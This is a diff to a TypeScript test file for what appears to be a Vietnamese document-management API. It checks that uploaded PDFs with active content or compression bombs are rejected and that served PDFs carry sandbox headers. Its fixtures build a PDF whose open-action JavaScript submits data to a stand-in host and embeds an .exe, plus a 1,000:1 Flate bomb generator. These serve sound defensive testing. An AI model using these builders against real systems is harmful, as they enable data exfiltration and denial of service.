@@ -1,7 +1,9 @@
 import { readdirSync, statSync } from 'node:fs';
 import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
 
 import { DocumentDetail, DocumentType, SecurityLevel, Urgency } from '@vanthu/shared/contracts';
+import { PDFDocument, PDFHexString, PDFName } from 'pdf-lib';
 import { DataSource } from 'typeorm';
 
 import { startTestApp, TestApp } from '../../test/harness';
@@ -19,6 +21,36 @@ function storedFiles(root: string): string[] {
   };
   walk(root);
   return found;
+}
+
+/** What the held-out check sent: a one-page PDF that submits data outside when opened, with an .exe inside. */
+async function hostilePdf(): Promise<Buffer> {
+  const doc = await PDFDocument.create();
+  doc.addPage();
+  const script = doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFHexString.fromText('this.submitForm({cURL: "https://thu-thap.example/du-lieu", cSubmitAs: "PDF"});') });
+  doc.catalog.set(PDFName.of('OpenAction'), doc.context.register(script));
+  await doc.attach(Buffer.from('MZ\x90\x00 a program'), 'cai-dat.exe', { mimeType: 'application/octet-stream' });
+  return Buffer.from(await doc.save());
+}
+
+/** A valid PDF whose page content is a 1,000 : 1 Flate bomb (100 MB from ~100 kB). */
+function bombPdf(): Buffer {
+  const data = deflateSync(Buffer.alloc(100 * 1024 * 1024), { level: 9 });
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
+    `<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n${data.toString('latin1')}\nendstream`,
+  ];
+  let body = '%PDF-1.7\n';
+  const offsets: number[] = [];
+  objects.forEach((object, i) => {
+    offsets.push(body.length);
+    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
+  });
+  const xref = body.length;
+  body += `xref\n0 5\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(body, 'latin1');
 }
 
 describe('classified documents and bad uploads leave nothing stored', () => {
@@ -120,6 +152,17 @@ describe('classified documents and bad uploads leave nothing stored', () => {
     expect(truncated.body.code).toBe('DAMAGED_PDF');
     const large = await send(Buffer.concat([corpusFile('pdflib-classic-xref.pdf'), Buffer.alloc(1_200_000, 0x20)]), 'large.pdf').expect(413);
     expect(large.body).toMatchObject({ code: 'PAYLOAD_TOO_LARGE', message: { vi: expect.stringContaining('1 MB'), en: expect.stringContaining('1 MB') } });
+    const active = await send(await hostilePdf(), 'ke-hoach.pdf').expect(422);
+    expect(active.body).toEqual({
+      statusCode: 422,
+      code: 'ACTIVE_CONTENT',
+      message: {
+        vi: 'Tệp PDF có nội dung có thể tự chạy nên không được nhận: mã JavaScript; tệp nhúng bên trong. Hãy xuất lại tệp PDF từ Word/LibreOffice (hoặc in ra PDF) rồi tải lên lại.',
+        en: 'The PDF holds content that can act on its own, so it is refused: JavaScript; embedded files. Export the PDF again from Word/LibreOffice (or print to PDF) and upload that.',
+      },
+    });
+    const bomb = await send(bombPdf(), 'bom.pdf').expect(422);
+    expect(bomb.body).toMatchObject({ code: 'UNSUPPORTED_PDF', message: { vi: expect.stringContaining('bom nén'), en: expect.stringContaining('compression bomb') } });
     const missing = await drafter.post(`/api/outgoing/${draft.id}/files`).field('role', 'attachment').expect(400);
     expect(missing.body.code).toBe('FILE_MISSING');
     // A PDF named .txt is still a PDF: content decides, not the name.
@@ -129,5 +172,33 @@ describe('classified documents and bad uploads leave nothing stored', () => {
     expect((await fileRows()) - rowsBefore).toBe(1);
     const detail: DocumentDetail = (await drafter.get(`/api/documents/${draft.id}`).expect(200)).body;
     expect(detail.files.map((f) => f.name)).toEqual([expect.stringMatching(/\.pdf$/), 'scan.txt.pdf']);
+  });
+});
+
+describe('PDFs as the API serves them', () => {
+  let t: TestApp;
+  let route: Route;
+
+  beforeAll(async () => {
+    t = await startTestApp('pdfheaders', { signing: 'ec' });
+    route = new Route(t, await Directory.load(t));
+  }, 120_000);
+  afterAll(async () => {
+    await t?.close();
+  });
+
+  it('serves a file inline for the viewer and as an attachment for downloads, always in a sandbox that runs nothing', async () => {
+    const draft = await route.draft();
+    const file = draft.files[0];
+    const drafter = await route.as('tuyduc-nv.chuyenvien1');
+    const path = `/api/documents/${draft.id}/files/${file.id}/content`;
+    const inline = await drafter.get(path).buffer(true).expect(200);
+    expect(inline.headers['content-type']).toBe('application/pdf');
+    expect(inline.headers['content-disposition']).toBe(`inline; filename="K_ ho_ch chuy_n __i s_.pdf"; filename*=UTF-8''${encodeURIComponent('Kế hoạch chuyển đổi số.pdf')}`);
+    expect(inline.headers['content-security-policy']).toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
+    expect(inline.headers['x-content-type-options']).toBe('nosniff');
+    const download = await drafter.get(`${path}?download=1`).buffer(true).expect(200);
+    expect(download.headers['content-disposition']).toMatch(/^attachment; filename="/);
+    expect(download.headers['content-security-policy']).toBe("sandbox; default-src 'none'; frame-ancestors 'none'");
   });
 });
